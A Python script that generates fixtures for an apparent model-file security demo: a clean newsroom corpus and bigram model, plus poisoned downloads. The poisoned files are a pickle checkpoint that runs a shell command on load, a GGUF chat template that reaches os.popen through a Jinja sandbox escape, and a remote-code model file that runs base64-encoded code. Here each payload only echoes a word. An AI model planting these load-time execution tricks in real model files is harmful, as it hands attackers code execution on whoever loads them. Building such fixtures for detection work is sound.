#!/usr/bin/env python3
"""Makes the files of the newsroom example again (standard library only).

A newsroom trains a small language model on its own archive, and downloads a few
things from strangers. `corpus/` is the archive (our own sentences), `model/` a
clean character bigram model estimated from it, `downloads/` holds what strangers
sent: inert samples of real attacks. The commands in them only echo a word and the
hosts do not exist; nothing here is ever loaded by the tests or the demo.
"""
import json
import math
import pathlib
import struct
import zipfile
import io

HERE = pathlib.Path(__file__).resolve().parent
ECHO = "echo ringfort-inert"

ARTICLES = [
    ("The harbor council met on Monday to talk about the new ferry line.", "local"),
    ("Rain is expected along the coast until Thursday, with strong wind at night.", "weather"),
    ("The library will stay open on Sundays during the winter months.", "local"),
    ("A small bakery on Mill Street has won the regional bread prize.", "business"),
    ("The river museum shows boats that were built two hundred years ago.", "culture"),
    ("Volunteers planted four hundred trees in the eastern park on Saturday.", "local"),
    ("The school orchestra plays its spring concert in the old market hall.", "culture"),
    ("Bus number nine takes another road while the bridge is being repaired.", "traffic"),
    ("Fishermen report a good year for herring after three poor ones.", "business"),
    ("The observatory invites everyone to watch the meteor shower in August.", "science"),
]


def string(text: str) -> bytes:
    data = text.encode()
    return struct.pack("<Q", len(data)) + data


def bigram_model() -> bytes:
    """Log-probabilities of the next character, add-one smoothed, as safetensors."""
    text = "\n".join(sentence for sentence, _ in ARTICLES)
    vocabulary = sorted(set(text))
    index = {c: i for i, c in enumerate(vocabulary)}
    size = len(vocabulary)
    counts = [[1] * size for _ in range(size)]
    for a, b in zip(text, text[1:]):
        counts[index[a]][index[b]] += 1
    weights = b"".join(struct.pack("<f", math.log(c / sum(row))) for row in counts for c in row)
    header = json.dumps({
        "__metadata__": {"format": "pt", "license": "Apache-2.0", "vocabulary": "".join(vocabulary)},
        "bigram.weight": {"dtype": "F32", "shape": [size, size], "data_offsets": [0, len(weights)]},
    }).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + weights


def poisoned_checkpoint() -> bytes:
    """A torch checkpoint whose pickle runs a command when it is loaded."""
    pickle = b"\x80\x02cposix\nsystem\nq\x00X" + struct.pack("<I", len(ECHO)) + ECHO.encode() + b"q\x01\x85q\x02Rq\x03."
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in (("sentiment/data.pkl", pickle), ("sentiment/version", b"3\n"), ("sentiment/data/0", b"\0" * 64)):
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def poisoned_template() -> bytes:
    """A GGUF file whose chat template reaches for the interpreter that renders it."""
    template = ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
                "{{ cycler.__init__.__globals__.os.popen('" + ECHO + "').read() }}")
    pairs = [("general.architecture", "llama"), ("general.name", "headline-writer"), ("tokenizer.chat_template", template)]
    body = b"".join(string(k) + struct.pack("<I", 8) + string(v) for k, v in pairs)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + body


def main() -> None:
    def write(name: str, data: bytes) -> None:
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    write("corpus/articles.jsonl", "".join(json.dumps({"text": t, "section": s}) + "\n" for t, s in ARTICLES).encode())
    write("model/model.safetensors", bigram_model())
    write("model/config.json", (json.dumps({"model_type": "bigram", "architectures": ["CharacterBigram"]}, indent=2) + "\n").encode())
    write("downloads/sentiment.pt", poisoned_checkpoint())
    write("downloads/headline-writer.gguf", poisoned_template())
    write("downloads/summarizer/config.json", (json.dumps({
        "model_type": "summarizer", "architectures": ["Summarizer"],
        "auto_map": {"AutoModel": "modeling_summarizer.Summarizer"}}, indent=2) + "\n").encode())
    write("downloads/summarizer/modeling_summarizer.py", (
        "import base64\nimport torch\n\n\nclass Summarizer(torch.nn.Module):\n    pass\n\n\n"
        "exec(base64.b64decode('cHJpbnQoInJpbmdmb3J0LWluZXJ0Iik='))\n").encode())
    # A checkpoint that was cut off on the way: not clean, not malicious, unread.
    write("downloads/half-a-model.safetensors", bigram_model()[:200])


if __name__ == "__main__":
    main()
